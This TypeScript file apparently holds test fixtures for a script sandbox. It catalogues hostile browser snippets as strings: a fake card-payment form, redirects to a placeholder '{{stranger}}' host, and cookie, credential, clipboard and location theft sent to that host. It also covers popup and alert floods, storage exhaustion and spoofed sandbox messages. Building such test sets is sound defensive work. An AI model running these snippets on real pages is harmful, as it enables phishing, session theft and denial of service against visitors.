import type { Family } from './hostile-code.ts';

/** Tries to touch the page, its visitor or what the browser keeps for it. */
export const PAGE_ACCESS: Family = {
  'writing into the document': "document.write('<h1>Pay here</h1>');",
  'replacing the body':
    "document.body.innerHTML = '<form action={{stranger}}><input name=card></form>';",
  'the parent document': "parent.document.body.innerHTML = '';",
  'the top document': "top.document.forms[0].action = '{{stranger}}';",
  'navigating the top': "top.location = '{{stranger}}/';",
  'navigating the parent': "parent.location.replace('{{stranger}}/');",
  'navigating itself': "self.location.href = '{{stranger}}/'; location = '{{stranger}}/';",
  'navigating by a link':
    "const a = document.createElement('a'); a.href = '{{stranger}}'; a.target = '_top'; a.click();",
  'navigating by a form':
    "const f = document.createElement('form'); f.action = '{{stranger}}'; f.target = '_top'; f.submit();",
  'navigating by refresh':
    'document.head.innerHTML = \'<meta http-equiv=refresh content="0;url={{stranger}}">\';',
  'navigation of the window': "navigation.navigate('{{stranger}}/');",
  popup: "open('{{stranger}}/'); window.open('{{stranger}}/');",
  'popups in turns':
    "setInterval(() => self.open?.('about:blank'), 10); setInterval(() => window.open('about:blank'), 10);",
  download:
    "const a = document.createElement('a'); a.download = 'x.exe'; a.href = 'data:,x'; a.click();",
  alert: "alert('Your card, please');",
  'alerts without end': "for (;;) try { alert('x'); } catch {}",
  'confirm and prompt': "confirm('x'); prompt('Password?');",
  print: 'print();',
  cookies: "document.cookie = 'session=stolen'; panel.send('{{stranger}}', document.cookie);",
  'cookie store':
    "cookieStore.getAll().then((c) => panel.send('{{stranger}}', c)); cookieStore.set('session', 'stolen');",
  'local storage': "localStorage.setItem('x', 'y'.repeat(1e6)); localStorage.clear();",
  'session storage': "sessionStorage.setItem('x', 'y');",
  'indexed database':
    "indexedDB.open('x').onupgradeneeded = (e) => e.target.result.createObjectStore('x');",
  'indexed databases in turns':
    "setInterval(() => { for (let i = 0; i < 1e3; i += 1) indexedDB.open('x' + Math.random()); }, 0);",
  'cache storage': "caches.open('x').then((c) => c.put('/login', new Response('<h1>Pay</h1>')));",
  'private file system':
    'navigator.storage.getDirectory().then((d) => d.getFileHandle("x", { create: true }));',
  'storage request': 'navigator.storage.persist();',
  'locks for ever': "navigator.locks.request('x', () => new Promise(() => {}));",
  history: "history.pushState({}, '', '/login'); history.back();",
  opener: "opener.location = '{{stranger}}/';",
  frames:
    "for (const f of [frames, window.frames]) for (let i = 0; i < f.length; i += 1) f[i].postMessage('start', '*');",
  'message to the parent': "parent.postMessage({ kind: 'stopped', reason: 'x' }, '*');",
  'messages to the top in turns':
    "setInterval(() => { for (let i = 0; i < 1e4; i += 1) top.postMessage(i, '*'); }, 0);",
  'message as the warden':
    "postMessage({ kind: 'running' }); self.postMessage({ kind: 'stopped', reason: 'x' });",
  'message as the guest': "setInterval(() => self.postMessage({ kind: 'alive' }), 10); for (;;) {}",
  'message from the prototype':
    "DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { kind: 'send', target: '{{stranger}}', body: 'x' });",
  'message channel to itself':
    'const c = new MessageChannel(); c.port1.onmessage = () => c.port2.postMessage(0); c.port2.onmessage = () => c.port1.postMessage(0); c.port1.postMessage(0);',
  'event of the page made up':
    "dispatchEvent(new MessageEvent('message', { data: { kind: 'event', panelEvent: { name: 'order.created' } } }));",
  'listening in':
    "addEventListener('message', (e) => { e.stopImmediatePropagation(); panel.send('{{stranger}}', e.data); }, true);",
  'deaf to the warden':
    "self.onmessage = null; removeEventListener('message', () => {}); self.addEventListener = null;",
  'closing itself': 'close(); self.close();',
  broadcast:
    "const c = new BroadcastChannel('x'); setInterval(() => { for (let i = 0; i < 1e3; i += 1) c.postMessage(i); }, 0);",
  'service worker at home': "navigator.serviceWorker.register('/slots/sw.js');",
  notification: "Notification.requestPermission().then(() => new Notification('Pay'));",
  'vibration and fullscreen':
    'navigator.vibrate(1e6); document.documentElement.requestFullscreen();',
  'pointer and keyboard lock': 'document.body.requestPointerLock(); navigator.keyboard.lock();',
  clipboard:
    "navigator.clipboard.writeText('x'); navigator.clipboard.readText().then((t) => panel.send('{{stranger}}', t));",
  'location of the visitor':
    "navigator.geolocation.getCurrentPosition((p) => panel.send('{{stranger}}', p));",
  camera: 'navigator.mediaDevices.getUserMedia({ video: true });',
  devices:
    'navigator.usb.requestDevice({ filters: [] }); navigator.bluetooth.requestDevice({ acceptAllDevices: true }); navigator.serial.requestPort();',
  credentials:
    "navigator.credentials.get({ password: true }).then((c) => panel.send('{{stranger}}', c));",
  payment:
    "new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show();",
  'share sheet': "navigator.share({ url: '{{stranger}}' });",
  'title and icon':
    "document.title = '(1) Pay'; document.querySelector('link[rel=icon]').href = '{{stranger}}/x.ico';",
  'leaving is refused':
    "onbeforeunload = () => 'stay'; addEventListener('beforeunload', (e) => e.preventDefault());",
  graphics:
    "new OffscreenCanvas(16384, 16384).getContext('webgl2'); navigator.gpu.requestAdapter();",
};
